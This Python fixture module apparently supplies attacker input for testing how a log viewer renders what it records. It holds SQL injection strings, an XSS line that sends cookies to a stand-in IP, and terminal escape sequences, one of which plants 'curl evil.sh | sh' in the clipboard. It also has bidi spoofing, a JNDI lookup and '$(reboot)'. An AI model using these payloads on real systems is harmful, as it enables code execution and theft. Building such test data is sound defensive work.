"""What attackers send, as it reaches the log, and now and then what is aimed at whoever reads it."""

from __future__ import annotations

HOSTILE_OF_256 = 9
"""How many of 256 attack lines carry something hostile to a terminal: about three in a hundred."""

USUAL: dict[str, tuple[str, ...]] = {
    "sql_injection": (
        "1' OR '1'='1' -- ",
        "7 UNION SELECT id, email, password, NULL FROM users -- ",
        "'; DROP TABLE appointments; -- ",
        "11 AND SLEEP(5)",
        "1) OR EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version)))",
        "admin'/**/UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables#",
    ),
    "xss": (
        "<script>fetch('//203.0.113.9/c?'+document.cookie)</script>",
        '"><img src=x onerror=alert(document.domain)>',
        "<svg/onload=eval(atob('YWxlcnQoMSk='))>",
        "javascript:alert(1)//",
        "<iframe srcdoc='&lt;script&gt;parent.name&lt;/script&gt;'>",
    ),
    "user_enumeration": (
        "anna.koch@example.com",
        "it-support@example.com",
        "m.huber@example.org",
        "admin@example.net",
        "praxis.wagner@example.com",
    ),
    "brute_force": ("admin@example.com", "root@example.com", "info@example.org", "rezeption@example.net"),
}

HOSTILE = (
    "\x1b[2J\x1b[31;1mALL SYSTEMS NORMAL\x1b[0m",
    "\x1b]0;owned by the visitor\x07",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b]8;;http://203.0.113.9/\x1b\\click me\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;C1 title\x9c",
    "\x1bPq#0;2;0;0;0~\x1b\\ \x1b[?1049h\x1b[?1000h",
    "moc.elpmaxe\u202egnp.exe\u202c\u2066 hidden\u2069",
    "zero\u200bwidth\ufeffjoiner\u200d and a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c",
    "[bold red]markup[/bold red] [link=file:///etc/passwd]x[/link] [@click=app.quit]y[/]",
    "{{ .context.ip_address }} $(reboot) `id` ${jndi:ldap://203.0.113.9/a}",
    "emoji \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 wide \u6f22\u5b57 flag \U0001f1e9\U0001f1ea",
    "null\x00byte tab\there\rreturn\nsecond line \x7fdelete",
)

LONG_AGENT = "Mozilla/5.0 (" + "; ".join(f"x{number:04d}" for number in range(700)) + ")"
"""A user agent of some five thousand characters."""
